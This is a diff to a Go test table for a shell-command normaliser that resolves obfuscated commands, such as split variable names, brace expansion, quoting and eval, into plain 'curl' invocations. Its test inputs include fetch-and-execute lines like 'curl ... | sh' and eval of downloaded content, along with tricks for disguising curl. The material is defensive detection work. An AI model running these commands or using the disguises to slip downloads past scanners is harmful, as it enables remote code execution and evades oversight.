@@ -16,6 +16,12 @@ func TestPlainly(t *testing.T) {
 		{`{curl,-s,http://203.0.113.9/x}|sh`, `curl -s http://203.0.113.9/x|sh`, ``},
 		{`a=cu;b=rl;$a$b http://a/b`, `a=cu;b=rl;curl http://a/b`, ``},
 		{`x=$(curl -s http://203.0.113.9/x); eval "$x"`, `x=$(curl -s http://203.0.113.9/x); eval "$(curl -s http://203.0.113.9/x)"`, ``},
+		{`f() { $a$b http://a/b; }; a=cu; b=rl; f`, `f() { curl http://a/b; }; a=cu; b=rl; f`, ``},
+		{strings.Repeat("y=1;", 100) + `a=cu;b=rl;$a$b http://a/b`, strings.Repeat("y=1;", 100) + `a=cu;b=rl;curl http://a/b`, ``},
+		// A name holds what it was set to last, and what a loop gives is not known.
+		{`for f in *.sh; do sh $f; done; f=$(curl http://10.0.0.1/up); echo "$f"`, `for f in *.sh; do sh $f; done; f=$(curl http://10.0.0.1/up); echo "$(curl http://10.0.0.1/up)"`, ``},
+		{`f=a.sh; sh $f; f=$(curl http://10.0.0.1/up)`, `f=a.sh; sh a.sh; f=$(curl http://10.0.0.1/up)`, ``},
+		{`f=$(curl http://10.0.0.1/up); while read -r f; do sh $f; done <list`, `f=$(curl http://10.0.0.1/up); while read -r f; do sh $f; done <list`, ``},
 		// An owner's ways of writing say nothing.
 		{`"curl" -s 'http://a/b'`, `curl -s http://a/b`, ``},
 		{`\curl -s http://a/b`, `curl -s http://a/b`, ``},
